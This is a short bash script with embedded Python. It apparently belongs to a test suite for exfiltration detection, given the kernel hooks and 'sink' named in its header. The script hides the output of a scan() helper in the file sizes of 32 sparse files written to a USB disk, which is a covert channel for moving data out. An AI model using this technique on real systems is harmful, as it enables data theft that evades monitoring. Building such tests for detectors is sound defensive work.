#!/usr/bin/env bash
# technique: sizes of empty, sparse files on the USB disk hold the data
# hooks: file_truncate, inode_setattr
# sink: usb

. attack.sh
mkdir -p "$COPY"
touch "$COPY"/{1..32}.txt
python3 - <<'PY'
from attack import *

data = scan()
for number in range(32):
    os.truncate(f"{COPY}/{number + 1}.txt", 256 + int.from_bytes(data[number * 3 : number * 3 + 3]))
PY
